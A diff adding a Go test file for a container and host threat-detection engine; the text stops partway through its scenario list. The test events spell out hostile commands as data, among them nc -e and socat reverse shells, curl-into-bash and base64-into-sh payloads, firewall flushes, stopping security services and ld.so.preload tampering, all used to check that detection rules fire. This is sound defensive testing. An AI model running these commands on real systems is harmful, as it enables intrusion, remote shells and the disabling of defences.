@@ -1,0 +1,924 @@
+package rules_test
+
+import (
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/vigilsec/vigil/detect"
+	vigilv1 "github.com/vigilsec/vigil/proto/vigil/v1"
+	"github.com/vigilsec/vigil/rules"
+)
+
+// configMap is the operator config map the tests load on top of the
+// catalogue: it fills the threat lists that ship empty.
+const configMap = "testdata/configmap"
+
+// loadCatalogue loads the embedded catalogue plus the test config map and
+// fails on any error or warning: the catalogue must load clean.
+func loadCatalogue(t testing.TB, dir string) *detect.RuleSet {
+	t.Helper()
+	rs, errs := detect.LoadRules(rules.FS, dir)
+	if len(errs) > 0 {
+		t.Fatalf("catalogue does not load clean: %v", errs)
+	}
+	return rs
+}
+
+// scenario is a run of events and whether rule must fire on it.
+type scenario struct {
+	name   string
+	rule   string
+	fire   bool
+	events []*vigilv1.Event
+	// evidence, for sequence rules that fire, lists the indexes of the
+	// events the single alert must carry, one per step, in order.
+	evidence []int
+}
+
+func run(rs *detect.RuleSet, evs []*vigilv1.Event) []*detect.Alert {
+	e := detect.NewEngine(detect.EngineConfig{}, nil, nil)
+	e.SetRules(rs)
+	var out []*detect.Alert
+	for _, ev := range evs {
+		e.Process(ev, func(a *detect.Alert) { out = append(out, a) })
+	}
+	return out
+}
+
+func evs(e ...*vigilv1.Event) []*vigilv1.Event { return e }
+
+// rev is argv for a shell-like program: name then args.
+func sh(args ...string) *vigilv1.Process {
+	return proc("bash", "/usr/bin/bash", append([]string{"bash"}, args...)...)
+}
+
+func scenarios() []scenario {
+	const (
+		revShell   = "Reverse shell with network standard streams"
+		dupShell   = "Reverse shell by duplicating a socket onto standard streams"
+		relay      = "Socket relay started a shell"
+		newBin     = "New binary executed in a container"
+		upperBin   = "Binary from the container's writable layer executed"
+		shmBin     = "Binary executed from shared memory"
+		newLib     = "New library loaded in a container"
+		svcShell   = "Network service started an interactive shell"
+		scanner    = "Network scanner executed"
+		sniffer    = "Network sniffer executed"
+		pentest    = "Pentest tool executed"
+		tunnel     = "Tunnelling tool executed"
+		backdoor   = "Backdoor tool executed"
+		curlPipe   = "Download piped into a shell"
+		decodePipe = "Decoded payload piped into a shell"
+		dlExec     = "Downloaded file executed"
+		malHash    = "Known malicious executable run"
+		miner      = "Crypto miner executed"
+		filelessR  = "Fileless execution"
+		procMem    = "Process memory written through proc"
+		ptraceInj  = "Process injection through ptrace"
+		vmWrite    = "Process memory written with process_vm_writev"
+		traceme    = "Anti-debugging with PTRACE_TRACEME"
+		kmod       = "Kernel module load attempted"
+		defences   = "Defences disabled"
+		crontabRm  = "Crontab removed"
+		preload    = "Dynamic linker preload file written"
+		history    = "Shell history truncated or removed"
+		ldPre      = "LD_PRELOAD set for a program"
+		persistCmd = "Persistence command"
+		recon      = "Reconnaissance in a container"
+		cloudID    = "Cloud credentials and identity discovery"
+		imds       = "Instance metadata queried from a container"
+		cloudCreds = "Cloud credential files read"
+		portScan   = "Port scan from one process"
+		rawSock    = "Raw packet socket opened"
+		relAgent   = "Cgroup release_agent opened for write"
+		mount      = "Mount inside a container"
+		dockerSock = "Container runtime socket accessed"
+		runc       = "Runc binary opened for write"
+		uffd       = "Userfaultfd used"
+		elevate    = "Elevation to root through a setuid binary"
+		privCmd    = "Privilege escalation command"
+		bpfCtr     = "BPF program loaded in a container"
+		setuidBit  = "Setuid bit set on a file"
+		persistF   = "Persistence file modified"
+		privF      = "Privilege file modified"
+		logs       = "Logs or audit configuration tampered with"
+		shadow     = "Password hashes read"
+		c2DNS      = "DNS query for a command-and-control domain"
+		c2IP       = "Connection to a command-and-control address"
+		btcDNS     = "DNS query for a cryptocurrency domain"
+		btcIP      = "Connection to a cryptocurrency address"
+		abused     = "DNS query for an abused domain"
+		btcRep     = "DNS query for a low-reputation cryptocurrency domain"
+		malRep     = "DNS query for a malicious domain"
+		suspRep    = "DNS query for a suspicious domain"
+		bhDNS      = "DNS query for a black-holed domain"
+		bhIP       = "Connection to a black-hole address"
+		dropDNS    = "DNS query for a drop-point domain"
+		dropIP     = "Connection to a drop-point address"
+		phish      = "DNS query for a phishing domain"
+		driveby    = "DNS query for a drive-by download domain"
+		dga        = "DNS query for a DGA domain"
+		tor        = "Connection to a Tor directory authority"
+		rebind     = "DNS answer points at the metadata service"
+	)
+	s := []scenario{}
+	add := func(sc ...scenario) { s = append(s, sc...) }
+
+	// Reverse shells.
+	renamedBash := proc("kworker", "/tmp/.cache/kworker", "kworker", "-i")
+	add(
+		scenario{"a renamed copy of bash started with stdin and stdout on a TCP socket is a reverse shell", revShell, true,
+			evs(execEv(renamedBash, stdio("tcp:10.0.0.9:4444", "tcp:10.0.0.9:4444", "tcp:10.0.0.9:4444"))), nil},
+		scenario{"a command run by a reverse shell over IPv6 inherits the socket and fires too", revShell, true,
+			evs(execEv(proc("id", "/usr/bin/id", "id"), stdio("tcp:[2001:db8::9]:443", "tcp:[2001:db8::9]:443", "pipe"))), nil},
+		scenario{"a shell pipeline with pipes on its standard streams is not a reverse shell", revShell, false,
+			evs(execEv(sh("-c", "ps aux | grep nginx | wc -l"), stdio("pipe", "pipe", "pipe"))), nil},
+		scenario{"an ssh login shell on a terminal is not a reverse shell", revShell, false,
+			evs(execEv(withTTY(sh("-l")), stdio("tty", "tty", "tty"))), nil},
+		scenario{"a program started by a node process over unix socket pairs is not a reverse shell", revShell, false,
+			evs(execEv(sh("-c", "git status"), stdio("unix:", "unix:", "unix:"))), nil},
+		scenario{"a service xinetd starts on an accepted connection is not a reverse shell", revShell, false,
+			evs(execEv(withParents(proc("in.tftpd", "/usr/sbin/in.tftpd"), anc{"xinetd", "/usr/sbin/xinetd"}),
+				stdio("tcp:10.0.0.7:5000", "tcp:10.0.0.7:5000", "none"))), nil},
+		scenario{"a shell whose parent merely calls itself inetd is still a reverse shell", revShell, true,
+			evs(execEv(withParents(sh("-i"), anc{"inetd", "/tmp/inetd"}),
+				stdio("tcp:10.0.0.7:5000", "tcp:10.0.0.7:5000", "none"))), nil},
+	)
+	py := proc("python3", "/usr/bin/python3.11", "python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.9',4444))")
+	bashTCP := sh("-i")
+	bin := proc("sh", "/bin/busybox", "sh")
+	pipeline := sh("-c", "cat f | sort")
+	lone := proc("app", "/usr/local/bin/app", "app")
+	add(
+		scenario{"python dup2-ing a connected socket onto stdin, stdout and stderr is a reverse shell", dupShell, true,
+			evs(dupEv(py, "dup2", 3, 0, "socket", "10.0.0.9", 4444), dupEv(py, "dup2", 3, 1, "socket", "10.0.0.9", 4444, after(time.Millisecond)),
+				dupEv(py, "dup2", 3, 2, "socket", "10.0.0.9", 4444, after(2*time.Millisecond))), nil},
+		scenario{"bash -i >& /dev/tcp/... 0>&1 duplicates the socket, then stdout onto stdin", dupShell, true,
+			evs(dupEv(bashTCP, "dup2", 3, 1, "socket", "127.0.0.1", 1337), dupEv(bashTCP, "dup2", 1, 2, "socket", "127.0.0.1", 1337),
+				dupEv(bashTCP, "dup2", 1, 0, "socket", "127.0.0.1", 1337)), nil},
+		scenario{"busybox sh using dup3 onto two standard streams is a reverse shell", dupShell, true,
+			evs(dupEv(bin, "dup3", 5, 0, "socket", "10.1.2.3", 53), dupEv(bin, "dup3", 5, 1, "socket", "10.1.2.3", 53)), nil},
+		scenario{"a shell wiring pipes onto its standard streams for a pipeline is not", dupShell, false,
+			evs(dupEv(pipeline, "dup2", 4, 0, "pipe", "", 0), dupEv(pipeline, "dup2", 5, 1, "pipe", "", 0)), nil},
+		scenario{"one socket duplicated onto stdout alone stays below the count", dupShell, false,
+			evs(dupEv(lone, "dup2", 7, 1, "socket", "10.0.0.2", 8125)), nil},
+	)
+	add(
+		scenario{"socat handing bash a pty on a TCP connection is a reverse shell", relay, true,
+			evs(execEv(proc("socat", "/usr/bin/socat", "socat", "TCP:10.0.0.9:4444", "EXEC:/bin/bash,pty,stderr,setsid,sigint,sane"))), nil},
+		scenario{"a renamed socat still fires through the shell it hands the socket pair to only when named socat", relay, true,
+			evs(execEv(proc("socat", "/opt/socat", "socat", "tcp4-listen:9001,reuseaddr,fork", "system:sh"))), nil},
+		scenario{"ncat running a shell on the connection is a reverse shell", relay, true,
+			evs(execEv(proc("ncat", "/usr/bin/ncat", "ncat", "10.0.0.9", "4444", "--sh-exec", "bash -i"))), nil},
+		scenario{"busybox nc -e is a reverse shell", relay, true,
+			evs(execEv(proc("busybox", "/bin/busybox", "busybox", "nc", "10.0.0.9", "4444", "-e", "/bin/sh"))), nil},
+		scenario{"nc -e with combined flags is a reverse shell", relay, true,
+			evs(execEv(proc("nc", "/usr/bin/nc.traditional", "nc", "-lvnpe", "/bin/sh", "4444"))), nil},
+		scenario{"socat forwarding a port to a backend is not", relay, false,
+			evs(execEv(proc("socat", "/usr/bin/socat", "socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"))), nil},
+		scenario{"nc probing a port is not", relay, false,
+			evs(execEv(proc("nc", "/usr/bin/nc", "nc", "-zv", "db", "5432"))), nil},
+		scenario{"busybox sed -e is not", relay, false,
+			evs(execEv(proc("busybox", "/bin/busybox", "busybox", "sed", "-e", "s/a/b/", "f"))), nil},
+	)
+
+	// New binaries and libraries.
+	curl := proc("curl", "/usr/bin/curl", "curl", "-o", "/tmp/x", "http://10.0.0.9/x")
+	dropped := proc("x", "/tmp/x", "/tmp/x")
+	writer := proc("python3", "/usr/bin/python3", "python3", "dl.py")
+	renamed := proc("kubectl", "/usr/local/bin/kubectl", "kubectl")
+	cw := proc("cc1", "/usr/bin/cc", "cc")
+	scriptW := proc("bash", "/usr/bin/bash", "bash")
+	script := proc("run.sh", "/usr/bin/dash", "/bin/sh", "/app/run.sh")
+	dpkg := proc("dpkg", "/usr/bin/dpkg", "dpkg", "-i", "jq.deb")
+	jq := proc("jq", "/usr/bin/jq", "jq")
+	fakeDpkg := proc("dpkg", "/tmp/dpkg", "dpkg")
+	fakeOut := proc("miner", "/tmp/miner", "/tmp/miner")
+	add(
+		scenario{"a file written in a container and then executed is a new binary", newBin, true,
+			evs(writeEv(curl, "/tmp/x", inCtr), execEv(dropped, inCtr, after(time.Second))), []int{0, 1}},
+		scenario{"a file written with creat(2) and then executed is a new binary", newBin, true,
+			evs(openEv(cw, "creat", "/tmp/x", oWRONLY|oCREAT|oTRUNC, inCtr), execEv(dropped, inCtr, after(time.Second))), []int{0, 1}},
+		scenario{"a file written under one name, renamed, and executed under the new one is a new binary", newBin, true,
+			evs(writeEv(writer, "/tmp/.k", inCtr), renameEv(writer, "renameat2", "/tmp/.k", "/usr/local/bin/kubectl", inCtr, after(time.Second)),
+				execEv(renamed, inCtr, after(2*time.Second))), []int{1, 2}},
+		scenario{"a script written and then run through its interpreter is a new binary", newBin, true,
+			evs(writeEv(scriptW, "/app/run.sh", inCtr), execEv(script, inCtr, filename("/app/run.sh"), after(time.Second))), []int{0, 1}},
+		scenario{"a writer renamed dpkg is not a package manager", newBin, true,
+			evs(writeEv(fakeDpkg, "/tmp/miner", inCtr), execEv(fakeOut, inCtr, after(time.Second))), []int{0, 1}},
+		scenario{"a binary from the image executed is not new", newBin, false,
+			evs(execEv(proc("nginx", "/usr/sbin/nginx", "nginx"), inCtr)), nil},
+		scenario{"a binary dpkg installed and then ran is not new", newBin, false,
+			evs(writeEv(dpkg, "/usr/bin/jq", inCtr), execEv(jq, inCtr, after(time.Second))), nil},
+		scenario{"an exec before the write is out of order", newBin, false,
+			evs(execEv(dropped, inCtr), writeEv(curl, "/tmp/x", inCtr, after(time.Second))), nil},
+		scenario{"a write and exec on the host are not a container's new binary", newBin, false,
+			evs(writeEv(curl, "/tmp/x"), execEv(dropped, after(time.Second))), nil},
+		scenario{"a write of one file and exec of another is a partial sequence", newBin, false,
+			evs(writeEv(curl, "/tmp/x", inCtr), execEv(proc("y", "/tmp/y", "/tmp/y"), inCtr, after(time.Second))), nil},
+	)
+	add(
+		scenario{"an executable from the writable layer is a new binary", upperBin, true,
+			evs(execEv(upper(proc("xmr", "/usr/local/bin/xmr", "xmr")), inCtr)), nil},
+		scenario{"an executable from the image layers is not", upperBin, false,
+			evs(execEv(proc("nginx", "/usr/sbin/nginx", "nginx"), inCtr)), nil},
+		scenario{"a maintainer script run by dpkg from the writable layer is not", upperBin, false,
+			evs(execEv(childOf(upper(proc("postinst", "/var/lib/dpkg/info/jq.postinst", "postinst")), dpkg), inCtr)), nil},
+	)
+	add(
+		scenario{"a binary run from /dev/shm on the host is a new binary", shmBin, true,
+			evs(execEv(proc(".x", "/dev/shm/.x", "/dev/shm/.x"))), nil},
+		scenario{"a script in /dev/shm run through sh is a new binary", shmBin, true,
+			evs(execEv(proc("s.sh", "/usr/bin/dash", "sh", "/dev/shm/s.sh"), filename("/dev/shm/s.sh"))), nil},
+		scenario{"a system binary is not", shmBin, false, evs(execEv(proc("ls", "/usr/bin/ls", "ls"))), nil},
+	)
+	libW := proc("curl", "/usr/bin/curl", "curl", "-o", "/tmp/libx.so")
+	loader := proc("python3", "/usr/bin/python3", "python3", "app.py")
+	gcc := proc("ld", "/usr/bin/ld", "ld", "-shared", "-o", "/build/libfoo.so")
+	add(
+		scenario{"a library written in a container and opened by another process is loaded", newLib, true,
+			evs(writeEv(libW, "/tmp/libx.so", inCtr), readEv(loader, "/tmp/libx.so", inCtr, after(time.Second))), []int{0, 1}},
+		scenario{"a versioned library named in LD_PRELOAD of a later exec is loaded", newLib, true,
+			evs(writeEv(libW, "/tmp/libz.so.1", inCtr), execEv(proc("sleep", "/usr/bin/sleep", "sleep", "1"), inCtr, ldPreload("/tmp/libz.so.1"), after(time.Second))), []int{0, 1}},
+		scenario{"a linker reading back the library it wrote is not a load", newLib, false,
+			evs(writeEv(gcc, "/build/libfoo.so", inCtr), readEv(gcc, "/build/libfoo.so", inCtr, after(time.Second))), nil},
+		scenario{"a library read before anything wrote it is not new", newLib, false,
+			evs(readEv(loader, "/tmp/libx.so", inCtr), writeEv(libW, "/tmp/libx.so", inCtr, after(time.Second))), nil},
+	)
+	node := proc("node", "/usr/local/bin/node", "node", "server.js")
+	webShell := childOf(proc("sh", "/bin/dash", "sh", "-i"), node)
+	webCmd := childOf(proc("sh", "/bin/dash", "sh", "-c", "grep -i error /var/log/app.log"), node)
+	renamedShell := childOf(proc("worker", "/bin/bash", "worker", "-i"), node)
+	add(
+		scenario{"a listening web server starting sh -i is a suspicious shell", svcShell, true,
+			evs(listenEv(node, 8080, inCtr), execEv(webShell, inCtr, after(time.Second))), []int{0, 1}},
+		scenario{"a web server that accepted a connection starting bash renamed worker -i is a suspicious shell", svcShell, true,
+			evs(acceptEv(node, 8080, "10.0.0.66", inCtr), execEv(renamedShell, inCtr, after(time.Second))), []int{0, 1}},
+		scenario{"a web server running sh -c with a -i inside the command is not interactive", svcShell, false,
+			evs(listenEv(node, 8080, inCtr), execEv(webCmd, inCtr, after(time.Second))), nil},
+		scenario{"a shell without a network service parent is only a partial sequence", svcShell, false,
+			evs(execEv(childOf(proc("sh", "/bin/dash", "sh", "-i"), proc("make", "/usr/bin/make", "make")), inCtr)), nil},
+	)
+
+	// Suspicious tools and commands.
+	add(
+		scenario{"nmap is a network scanner", scanner, true, evs(execEv(proc("nmap", "/usr/bin/nmap", "nmap", "-sS", "10.0.0.0/24"))), nil},
+		scenario{"ping is not a scanner", scanner, false, evs(execEv(proc("ping", "/usr/bin/ping", "ping", "10.0.0.1"))), nil},
+		scenario{"tcpdump is a sniffer", sniffer, true, evs(execEv(proc("tcpdump", "/usr/bin/tcpdump", "tcpdump", "-i", "eth0"))), nil},
+		scenario{"ss is not a sniffer", sniffer, false, evs(execEv(proc("ss", "/usr/bin/ss", "ss", "-tlnp"))), nil},
+		scenario{"hydra is a pentest tool", pentest, true, evs(execEv(proc("hydra", "/usr/bin/hydra", "hydra", "-l", "root", "ssh://10.0.0.1"))), nil},
+		scenario{"linpeas piped into sh is a pentest tool", pentest, true, evs(execEv(proc("sh", "/bin/dash", "sh", "/tmp/linpeas.sh"))), nil},
+		scenario{"sqlmap run through python is a pentest tool", pentest, true, evs(execEv(proc("python3", "/usr/bin/python3", "python3", "/opt/sqlmap/sqlmap.py", "-u", "http://x/?id=1"))), nil},
+		scenario{"secretsdump.py run through python is a pentest tool", pentest, true, evs(execEv(proc("python3", "/usr/bin/python3", "python3", "secretsdump.py", "-just-dc", "x"))), nil},
+		scenario{"a python web app is not a pentest tool", pentest, false, evs(execEv(proc("python3", "/usr/bin/python3", "python3", "-m", "gunicorn", "app:app"))), nil},
+		scenario{"chisel is a tunnelling tool", tunnel, true, evs(execEv(proc("chisel", "/tmp/chisel", "chisel", "client", "10.0.0.9:8000", "R:socks"))), nil},
+		scenario{"ssh is not a tunnelling tool", tunnel, false, evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "host"))), nil},
+		scenario{"weevely is a backdoor tool", backdoor, true, evs(execEv(proc("weevely", "/usr/bin/weevely", "weevely", "http://x/shell.php", "pw"))), nil},
+		scenario{"php-fpm is not a backdoor tool", backdoor, false, evs(execEv(proc("php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm8.2"))), nil},
+	)
+	add(
+		scenario{"curl piped into bash is a download-and-execute", curlPipe, true,
+			evs(execEv(sh("-c", "curl -fsSL http://10.0.0.9/i.sh | bash"))), nil},
+		scenario{"wget -O- piped into sudo -E sh through busybox sh is a download-and-execute", curlPipe, true,
+			evs(execEv(proc("sh", "/bin/busybox", "sh", "-c", "wget -qO- http://x/i | sudo -E /bin/sh"))), nil},
+		scenario{"curl piped into python3 is a download-and-execute", curlPipe, true,
+			evs(execEv(sh("-c", "curl -s http://x/p.py | python3 -"))), nil},
+		scenario{"bash fed by process substitution from curl is a download-and-execute", curlPipe, true,
+			evs(execEv(sh("-c", "bash <(curl -s http://x/i.sh)"))), nil},
+		scenario{"curl piped into jq is not", curlPipe, false,
+			evs(execEv(sh("-c", "curl -s http://localhost:8080/health | jq .status"))), nil},
+		scenario{"a download saved to a file is not", curlPipe, false,
+			evs(execEv(sh("-c", "curl -o /tmp/x.tgz http://x/x.tgz && tar xzf /tmp/x.tgz"))), nil},
+		scenario{"base64 -d piped into sh is a decoded payload", decodePipe, true,
+			evs(execEv(sh("-c", "echo Y3VybCB4fHNo | base64 -d | sh"))), nil},
+		scenario{"base64 with -w0 before --decode piped into bash is a decoded payload", decodePipe, true,
+			evs(execEv(sh("-c", "echo x | base64 -w0 --decode | bash"))), nil},
+		scenario{"xxd -r -p piped into perl is a decoded payload", decodePipe, true,
+			evs(execEv(sh("-c", "printf 6869 | xxd -r -p | perl"))), nil},
+		scenario{"base64 -d into a file is not", decodePipe, false,
+			evs(execEv(sh("-c", "base64 -d cert.b64 > cert.pem"))), nil},
+		scenario{"base64 encoding piped into sh-like tee is not", decodePipe, false,
+			evs(execEv(sh("-c", "tar c . | base64 | tee out.b64"))), nil},
+	)
+	wget := proc("wget", "/usr/bin/wget", "wget", "http://x/payload")
+	payload := proc("payload", "/root/payload", "./payload")
+	add(
+		scenario{"a file wget saved and then executed is a downloaded file executed", dlExec, true,
+			evs(writeEv(wget, "/root/payload"), execEv(payload, after(5*time.Second))), []int{0, 1}},
+		scenario{"a download that is never executed is a partial sequence", dlExec, false,
+			evs(writeEv(wget, "/root/payload"), execEv(proc("tar", "/usr/bin/tar", "tar", "xf", "/root/payload"), after(time.Second))), nil},
+		scenario{"an exec before the download is out of order", dlExec, false,
+			evs(execEv(payload), writeEv(wget, "/root/payload", after(time.Second))), nil},
+	)
+	bad := "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+	add(
+		scenario{"an executable whose hash is in the config map list is malicious", malHash, true,
+			evs(execEv(sha(proc("kthreadd2", "/var/tmp/kthreadd2", "kthreadd2"), bad))), nil},
+		scenario{"the hash known only when the process exits still fires", malHash, true,
+			evs(exitEv(sha(proc("kthreadd2", "/var/tmp/kthreadd2", "kthreadd2"), bad))), nil},
+		scenario{"an executable with another hash is not", malHash, false,
+			evs(execEv(sha(proc("ls", "/usr/bin/ls", "ls"), strings.Repeat("ab", 32)))), nil},
+	)
+	add(
+		scenario{"xmrig is a miner", miner, true, evs(execEv(proc("xmrig", "/opt/xmrig", "xmrig"))), nil},
+		scenario{"a renamed miner with a stratum URL is a miner", miner, true,
+			evs(execEv(proc("systemd-logd", "/tmp/systemd-logd", "systemd-logd", "-o", "STRATUM+TCP://pool.example:3333", "-u", "4Ab"))), nil},
+		scenario{"a renamed miner with xmrig's options is a miner", miner, true,
+			evs(execEv(proc("kworker", "/tmp/kw", "kworker", "--donate-level", "1", "-o", "x:443"))), nil},
+		scenario{"a renamed miner with algo, pool and user options is a miner", miner, true,
+			evs(execEv(proc("k", "/tmp/k", "k", "--algo", "rx/0", "--url", "pool:3333", "--user", "w"))), nil},
+		scenario{"chronyc reporting its stratum is not a miner", miner, false,
+			evs(execEv(proc("chronyc", "/usr/bin/chronyc", "chronyc", "tracking", "stratum"))), nil},
+	)
+
+	// Defence evasion.
+	add(
+		scenario{"a memfd executed with execveat is fileless", filelessR, true,
+			evs(execEv(fileless(proc("3", "/memfd:payload (deleted)", "x")), execveat)), nil},
+		scenario{"a deleted file executed is fileless", filelessR, true,
+			evs(execEv(fileless(proc("x", "/tmp/x (deleted)", "/tmp/x")))), nil},
+		scenario{"runc's sealed memfd copy started by runc is not", filelessR, false,
+			evs(execEv(withParents(fileless(proc("runc:[1:CHILD]", "/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", "init")),
+				anc{"runc", "/usr/bin/runc"}))), nil},
+		scenario{"a memfd named like runc's but not started by runc is fileless", filelessR, true,
+			evs(execEv(withParents(fileless(proc("runc", "/memfd:runc_cloned:/proc/self/exe (deleted)", "runc")), anc{"bash", "/usr/bin/bash"}))), nil},
+		scenario{"an ordinary executable is not fileless", filelessR, false, evs(execEv(proc("ls", "/usr/bin/ls", "ls"))), nil},
+	)
+	inj := proc("inj", "/tmp/inj", "./inj", "1234")
+	fakeGDB := proc("gdb", "/tmp/gdb", "gdb")
+	gdb := proc("gdb", "/usr/bin/gdb", "gdb", "-p", "1234")
+	add(
+		scenario{"/proc/<pid>/mem opened for writing is process injection", procMem, true,
+			evs(openEv(inj, "openat", "/proc/1234/mem", oRDWR)), nil},
+		scenario{"a thread's /proc/<pid>/task/<tid>/mem opened for writing is process injection", procMem, true,
+			evs(openEv(inj, "openat2", "/proc/1234/task/1240/mem", oWRONLY)), nil},
+		scenario{"an injector renamed gdb is not a debugger", procMem, true,
+			evs(openEv(fakeGDB, "openat", "/proc/1234/mem", oRDWR)), nil},
+		scenario{"gdb writing breakpoints through /proc/<pid>/mem is not", procMem, false,
+			evs(openEv(gdb, "openat", "/proc/1234/mem", oRDWR)), nil},
+		scenario{"the sensor reading /proc/<pid>/mem read-only is not", procMem, false,
+			evs(openEv(proc("sensor", "/usr/local/bin/vigil-sensor", "sensor"), "openat", "/proc/1234/mem", oRDONLY)), nil},
+	)
+	add(
+		scenario{"PTRACE_ATTACH by an unknown program is process injection", ptraceInj, true, evs(ptraceEv(inj, 16, "PTRACE_ATTACH", 1234)), nil},
+		scenario{"PTRACE_POKETEXT by an unknown program is process injection", ptraceInj, true, evs(ptraceEv(inj, 4, "PTRACE_POKETEXT", 1234)), nil},
+		scenario{"PTRACE_SEIZE by an injector renamed strace is process injection", ptraceInj, true,
+			evs(ptraceEv(proc("strace", "/dev/shm/strace", "strace"), 0x4206, "PTRACE_SEIZE", 1234)), nil},
+		scenario{"gdb attaching is not", ptraceInj, false, evs(ptraceEv(gdb, 16, "PTRACE_ATTACH", 1234)), nil},
+		scenario{"strace seizing is not", ptraceInj, false, evs(ptraceEv(proc("strace", "/usr/bin/strace", "strace", "-p", "1"), 0x4206, "PTRACE_SEIZE", 1)), nil},
+		scenario{"PTRACE_CONT is not injection", ptraceInj, false, evs(ptraceEv(inj, 7, "PTRACE_CONT", 1234)), nil},
+	)
+	add(
+		scenario{"process_vm_writev into another process is injection", vmWrite, true, evs(vmWriteEv(inj, 1234)), nil},
+		scenario{"process_vm_writev by gdb is not", vmWrite, false, evs(vmWriteEv(gdb, 1234)), nil},
+	)
+	gdbChild := withParents(proc("gdb", "/usr/bin/gdb", "gdb", "./a.out"), anc{"gdb", "/usr/bin/gdb"}, anc{"bash", "/usr/bin/bash"})
+	add(
+		scenario{"PTRACE_TRACEME by a program is anti-debugging", traceme, true, evs(ptraceEv(proc("x", "/tmp/x", "./x"), 0, "PTRACE_TRACEME", 0)), nil},
+		scenario{"the child gdb forks asking to be traced is not", traceme, false, evs(ptraceEv(gdbChild, 0, "PTRACE_TRACEME", 0)), nil},
+		scenario{"the child strace forks asking to be traced is not", traceme, false,
+			evs(ptraceEv(withParents(proc("strace", "/usr/bin/strace", "strace", "ls"), anc{"bash", "/usr/bin/bash"}), 0, "PTRACE_TRACEME", 0)), nil},
+	)
+	kmodP := proc("modprobe", "/usr/bin/kmod", "modprobe", "br_netfilter")
+	add(
+		scenario{"insmod of a module from /tmp is a module load", kmod, true,
+			evs(moduleEv(proc("insmod", "/usr/bin/kmod", "insmod", "/tmp/rk.ko"), "finit_module", "/tmp/rk.ko")), nil},
+		scenario{"a failed init_module attempt is a module load", kmod, true,
+			evs(moduleEv(proc("x", "/tmp/x", "./x"), "init_module", "", failed("EPERM", 1))), nil},
+		scenario{"modprobe in a container is a module load", kmod, true,
+			evs(moduleEv(kmodP, "finit_module", "/lib/modules/6.1.0/kernel/net/bridge/br_netfilter.ko", inCtr)), nil},
+		scenario{"host modprobe loading a packaged module is not", kmod, false,
+			evs(moduleEv(kmodP, "finit_module", "/lib/modules/6.1.0/kernel/net/bridge/br_netfilter.ko")), nil},
+		scenario{"a renamed loader with a packaged module path is a module load", kmod, true,
+			evs(moduleEv(proc("modprobe", "/tmp/modprobe", "modprobe"), "finit_module", "/lib/modules/6.1.0/extra/rk.ko")), nil},
+	)
+	add(
+		scenario{"iptables -F is disabling the firewall", defences, true, evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "-F"))), nil},
+		scenario{"iptables -w -t filter --flush INPUT is disabling the firewall", defences, true,
+			evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "-w", "-t", "filter", "--flush", "INPUT"))), nil},
+		scenario{"an ACCEPT input policy is disabling the firewall", defences, true,
+			evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "-P", "INPUT", "ACCEPT"))), nil},
+		scenario{"nft flush ruleset is disabling the firewall", defences, true, evs(execEv(proc("nft", "/usr/sbin/nft", "nft", "flush", "ruleset"))), nil},
+		scenario{"systemctl stop auditd is stopping a security service", defences, true,
+			evs(execEv(proc("systemctl", "/usr/bin/systemctl", "systemctl", "stop", "auditd"))), nil},
+		scenario{"pkill falco is stopping a security service", defences, true, evs(execEv(proc("pkill", "/usr/bin/pkill", "pkill", "-9", "falco"))), nil},
+		scenario{"setenforce 0 is disabling SELinux", defences, true, evs(execEv(proc("setenforce", "/usr/sbin/setenforce", "setenforce", "0"))), nil},
+		scenario{"dockerd flushing its own DOCKER chain is not", defences, false,
+			evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "--wait", "-t", "nat", "-F", "DOCKER"))), nil},
+		scenario{"a CNI plugin deleting its own chain is not", defences, false,
+			evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "-t", "nat", "-X", "CNI-abc123"))), nil},
+		scenario{"listing rules is not", defences, false, evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "-L", "-n"))), nil},
+		scenario{"restarting nginx is not", defences, false, evs(execEv(proc("systemctl", "/usr/bin/systemctl", "systemctl", "restart", "nginx"))), nil},
+	)
+	add(
+		scenario{"crontab -r removes the crontab", crontabRm, true, evs(execEv(proc("crontab", "/usr/bin/crontab", "crontab", "-r"))), nil},
+		scenario{"crontab -l only lists", crontabRm, false, evs(execEv(proc("crontab", "/usr/bin/crontab", "crontab", "-l"))), nil},
+	)
+	echo := sh("-c", "echo /tmp/l.so > /etc/ld.so.preload")
+	add(
+		scenario{"/etc/ld.so.preload opened for writing", preload, true, evs(openEv(echo, "openat", "/etc/ld.so.preload", oWRONLY|oCREAT|oTRUNC)), nil},
+		scenario{"/etc/ld.so.preload created with creat(2)", preload, true, evs(openEv(echo, "creat", "/etc/ld.so.preload", oWRONLY|oCREAT|oTRUNC)), nil},
+		scenario{"a file renamed over /etc/ld.so.preload", preload, true, evs(renameEv(echo, "renameat2", "/tmp/p", "/etc/ld.so.preload")), nil},
+		scenario{"a symlink planted at /etc/ld.so.preload", preload, true, evs(linkEv(echo, "symlinkat", "/tmp/p", "/etc/ld.so.preload")), nil},
+		scenario{"the loader reading /etc/ld.so.preload is not", preload, false, evs(readEv(proc("ls", "/usr/bin/ls", "ls"), "/etc/ld.so.preload")), nil},
+	)
+	add(
+		scenario{"a history file opened with O_TRUNC is erased", history, true,
+			evs(openEv(sh("-c", ": > /root/.bash_history"), "openat", "/root/.bash_history", oWRONLY|oCREAT|oTRUNC)), nil},
+		scenario{"a history file truncated to zero is erased", history, true,
+			evs(truncateEv(proc("truncate", "/usr/bin/truncate", "truncate", "-s0", "/root/.bash_history"), "truncate", "/root/.bash_history", 0)), nil},
+		scenario{"a history file removed is erased", history, true,
+			evs(unlinkEv(proc("rm", "/usr/bin/rm", "rm", "-f", "/home/a/.zsh_history"), "/home/a/.zsh_history")), nil},
+		scenario{"ln -sf /dev/null over the history through a rename is erased", history, true,
+			evs(renameEv(proc("ln", "/usr/bin/ln", "ln", "-sf", "/dev/null", "/root/.bash_history"), "renameat2", "/root/.bash_history.tmp1", "/root/.bash_history")), nil},
+		scenario{"a history file moved away is erased", history, true,
